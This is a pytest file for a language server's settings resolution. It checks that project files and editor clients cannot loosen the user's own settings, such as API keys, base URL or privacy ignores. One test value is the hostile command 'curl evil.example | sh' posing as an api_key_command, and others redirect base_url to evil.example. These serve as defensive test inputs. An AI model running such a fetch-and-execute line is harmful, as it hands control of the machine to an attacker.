"""Whose word counts: every setting, by every road it can come to the server."""

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import cast

import pytest
from lsprotocol import types
from pygls.lsp.server import LanguageServer

from ds_lsp.lsp.configure import SettingsSources
from ds_lsp.settings.resolve import Resolved
from ds_lsp.settings.schema import SETTINGS, ProjectRight
from tests.unit.clean import clean

ROOT = Path(__file__).parents[3]
USERS_ROADS = ("config.toml", "environment", "initializationOptions")
PROJECTS_ROADS = ("project file", "pulled", "pushed", "distrusted initializationOptions")
ROADS = (*USERS_ROADS, *PROJECTS_ROADS)
CLIENTS_ROADS = ("pulled", "pushed", "distrusted initializationOptions")


@dataclass(frozen=True, slots=True)
class Row:
    """A setting: what the user has, what is looser than that, and what is stricter."""

    path: str
    own: object
    looser: object
    stricter: object = None


ROWS = (
    Row("provider", "local", "deepseek"),
    Row("provider", "deepseek", "local"),
    Row("api_key", "sk-own", "sk-theirs"),
    Row("api_key_command", "pass show own", "curl evil.example | sh"),
    Row("base_url", "https://own.example", "https://evil.example"),
    Row("allow_http", False, True),
    Row("completion.enabled", False, True),
    Row("completion.enabled", True, True, stricter=False),
    Row("completion.model", "own", "theirs"),
    Row("completion.max_tokens", 64, 4096, stricter=32),
    Row("completion.temperature", 0.5, 1.0),
    Row("completion.debounce_ms", 100, 0),
    Row("completion.timeout_ms", 5000, 120_000, stricter=500),
    Row("completion.multiline", "never", "always"),
    Row("completion.menu", "never", "always"),
    Row("completion.disabled_languages", ["markdown"], [], stricter=["python", "中文"]),
    Row("chat.model", "own", "theirs"),
    Row("chat.thinking", False, True),
    Row("chat.language", "中文", "English"),
    Row("privacy.ignore", ["秘密/**"], ["!秘密/**", "!*"], stricter=["notes/"]),
    Row("usage.daily_token_limit", 1000, 10**12, stricter=10),
    Row("client.status", False, True),
    Row("client.late_answers", False, True),
    Row("client.carriage_returns", "auto", "characters"),
)
"""A setting that a project may set as it likes has no stricter value."""


def test_the_table_has_every_setting() -> None:
    assert {row.path for row in ROWS} == set(SETTINGS)


class Client(LanguageServer):
    """A client that answers `workspace/configuration`."""

    def __init__(self, answer: object) -> None:
        self.answer = answer

    async def workspace_configuration_async(
        self, params: types.ConfigurationParams
    ) -> list[object]:
        return [self.answer for _ in params.items]


class Session:
    """A user's home, a project in it, and the settings that come of both and of the client."""

    def __init__(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        self._monkeypatch = monkeypatch
        self._user, self._folder = root / "config.toml", root / "project"
        self._folder.mkdir()
        monkeypatch.setattr("ds_lsp.settings.sources.user_file", lambda: self._user)
        self._said: dict[str, object] = {}

    def say(self, road: str, path: str, value: object) -> None:
        """Set one setting by this *road*."""
        match road:
            case "config.toml":
                self._user.write_text(_toml(path, value), "utf-8")
                self._user.chmod(0o600)
            case "project file":
                (self._folder / ".ds-lsp.toml").write_text(_toml(path, value), "utf-8")
            case "environment":
                name = "DS_LSP_" + path.upper().replace(".", "_")
                self._monkeypatch.setenv(name, _variable(value))
            case _:
                self.send(road, {path: value})

    def send(self, road: str, message: object) -> None:
        """Let the client say this by this *road*, and nothing else."""
        assert road in ("initializationOptions", *CLIENTS_ROADS)
        self._said[road] = message

    async def resolved(self) -> Resolved:
        workspace = types.WorkspaceClientCapabilities(configuration=True)
        distrusted = self._said.get("distrusted initializationOptions")
        params = types.InitializeParams(
            capabilities=types.ClientCapabilities(workspace=workspace),
            initialization_options=distrusted or self._said.get("initializationOptions"),
        )
        settings = SettingsSources(params, trusts_editor=distrusted is None)
        settings.read_files([self._folder])
        settings.push(self._said.get("pushed"))
        await settings.pull(Client(self._said.get("pulled")))
        return settings.resolve()


@pytest.fixture
def session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Session:
    clean(monkeypatch, tmp_path)
    return Session(tmp_path, monkeypatch)


def _toml(path: str, value: object) -> str:
    return f"{path} = {json.dumps(value, ensure_ascii=False)}\n"


def _variable(value: object) -> str:
    return ",".join(value) if isinstance(value, list) else str(value).strip("'\"")


def value_of(resolved: Resolved, path: str) -> object:
    found: object = resolved.settings
    for name in path.split("."):
        found = getattr(found, name)
    return list(found) if isinstance(found, tuple) else found


def expected(row: Row, road: str, said: object) -> object:
    """The value in force where the user has set `row.own` and *said* came by *road*."""
    kind = SETTINGS[row.path].project
    if SETTINGS[row.path].session_only:
        return said if road == "initializationOptions" else row.own
    if road in USERS_ROADS:
        return said
    match kind:
        case ProjectRight.SET:
            return said
        case ProjectRight.FORBIDDEN:
            return row.own
        case ProjectRight.LOWER | ProjectRight.SWITCH_OFF:
            return said if said == row.stricter else row.own
        case ProjectRight.ADD:
            added = said if said == row.stricter else []
            return [*cast(list[str], row.own), *cast(list[str], added)]


CELLS = [
    pytest.param(row, road, said, id=f"{row.path}={said}-{road}")
    for row in ROWS
    for road in ROADS
    for said in (row.looser, row.stricter)
    if said is not None
]


@pytest.mark.parametrize(("row", "road", "said"), CELLS)
async def test_every_setting_by_every_road(
    session: Session, row: Row, road: str, said: object
) -> None:
    if not SETTINGS[row.path].session_only and road != "config.toml":
        session.say("config.toml", row.path, row.own)
    session.say(road, row.path, said)
    resolved = await session.resolved()
    if said == [] and road == "environment":
        # A variable that is empty says nothing.
        assert value_of(resolved, row.path) == row.own
        return
    wanted = expected(row, road, said)
    assert value_of(resolved, row.path) == wanted
    is_refused = said not in (wanted, []) and said != row.stricter
    assert len(resolved.problems) == is_refused
    assert all(row.path in problem for problem in resolved.problems)
    assert "theirs" not in "".join(resolved.problems)
    assert "evil" not in "".join(resolved.problems)


SPELLINGS: Mapping[str, Callable[[str, str, object], Mapping[str, object]]] = {
    "nested": lambda snake, camel, value: _nest(snake, value),
    "nested camelCase": lambda snake, camel, value: _nest(camel, value),
    "dotted": lambda snake, camel, value: {snake: value},
    "dotted camelCase": lambda snake, camel, value: {camel: value},
    "flat": lambda snake, camel, value: {f"ds-lsp.{camel}": value},
    "in its section": lambda snake, camel, value: {"ds-lsp": _nest(camel, value)},
    "in its section, dotted": lambda snake, camel, value: {"ds-lsp": {snake: value}},
    "in dsLsp": lambda snake, camel, value: {"dsLsp": _nest(snake, value)},
    "capitals": lambda snake, camel, value: {snake.upper(): value},
    "twice": lambda snake, camel, value: {snake: value, camel: value, snake.upper(): value},
}
"""How a client may write one setting."""
ONLY_THE_USERS = [row for row in ROWS if SETTINGS[row.path].project is not ProjectRight.SET]


def _nest(path: str, value: object) -> Mapping[str, object]:
    for name in reversed(path.split(".")):
        value = {name: value}
    return cast(Mapping[str, object], value)


def _camel(path: str) -> str:
    return ".".join(
        first + "".join(word.capitalize() for word in words)
        for first, *words in (name.split("_") for name in path.split("."))
    )


@pytest.mark.parametrize("how", ["pulled", "pushed"])
@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("row", ONLY_THE_USERS, ids=lambda row: f"{row.path}={row.looser}")
async def test_no_spelling_gets_around_it(
    session: Session, row: Row, spelling: str, how: str
) -> None:
    session.say("config.toml", row.path, row.own)
    written = SPELLINGS[spelling](row.path, _camel(row.path), row.looser)
    session.send(how, written)
    resolved = await session.resolved()
    assert value_of(resolved, row.path) == row.own
    assert sum(row.path in problem for problem in resolved.problems) <= 1


@pytest.mark.parametrize("road", ["pulled", "pushed"])
@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row.path}={row.looser}")
async def test_a_client_that_repeats_its_initialization_options_is_told_nothing(
    session: Session, row: Row, road: str
) -> None:
    for value in (row.looser, row.own):
        session.say("initializationOptions", row.path, value)
        session.send(road, None)
        alone = await session.resolved()
        session.say(road, row.path, value)
        resolved = await session.resolved()
        assert (resolved.settings, resolved.problems) == (alone.settings, ())


@pytest.mark.parametrize("road", ["pulled", "pushed"])
async def test_what_is_wrong_in_initialization_options_is_not_said_twice(
    session: Session, road: str
) -> None:
    wrong = {"baseUrl": "no address", "completion": {"maxTokens": "many"}, "colour": "red"}
    options = {**wrong, "apiKey": "sk-own", "apiKeyCommand": "pass show own"}
    session.send("initializationOptions", options)
    alone = await session.resolved()
    assert len(alone.problems) == 3
    session.send(road, options)
    resolved = await session.resolved()
    assert (resolved.settings, resolved.problems) == (alone.settings, alone.problems)


@pytest.mark.parametrize("road", CLIENTS_ROADS)
async def test_one_sentence_names_all_that_is_not_used_and_where_it_counts(
    session: Session, road: str
) -> None:
    refused = {
        row.path: row.looser
        for row in ROWS
        if row.path in ("provider", "api_key", "api_key_command", "base_url", "allow_http")
    }
    session.send(road, {**refused, "completion": {"maxTokens": 4096, "enabled": True}})
    (problem,) = (await session.resolved()).problems
    names = "provider, api_key, api_key_command, base_url, allow_http and completion.max_tokens"
    assert f"{names} are not used, as a project may have set them" in problem
    assert "use config.toml" in problem
    assert "the environment" in problem
    # Not the place it has just come from.
    assert ("or initializationOptions" in problem) == ("initialization" not in road)


async def test_later_words_of_the_client_change_nothing_of_what_the_user_has_said(
    session: Session,
) -> None:
    session.say("initializationOptions", "base_url", "https://own.example")
    answers: list[object] = [{"baseUrl": "https://evil.example"}, None, {}, {"baseUrl": ""}, 7, []]
    for answer in answers:
        session.send("pulled", answer)
        session.send("pushed", answer)
        assert (await session.resolved()).settings.base_url == "https://own.example"


@pytest.mark.parametrize("own", ["no address", "ftp://own.example"])
async def test_no_client_mends_an_address_of_the_users(session: Session, own: str) -> None:
    session.say("config.toml", "base_url", own)
    session.say("pulled", "base_url", "https://evil.example")
    resolved = await session.resolved()
    assert resolved.refusal == "base_url is not known"


def test_the_set_up_for_kate_distrusts_what_its_projects_set() -> None:
    servers = json.loads((ROOT / "editors/kate/settings.json").read_text("utf-8"))["servers"]
    commands = [server["command"] for server in servers.values() if "command" in server]
    assert commands
    assert all(command == ["ds-lsp", "--distrust-editor"] for command in commands)


async def test_a_client_cannot_take_back_what_a_project_file_forbids(session: Session) -> None:
    session.say("project file", "privacy.ignore", ["secret/"])
    session.say("pulled", "privacy.ignore", ["notes/"])
    resolved = await session.resolved()
    assert resolved.settings.privacy.ignore == ("secret/", "notes/")
    assert resolved.origins["privacy.ignore"] == "default + project file + editor configuration"
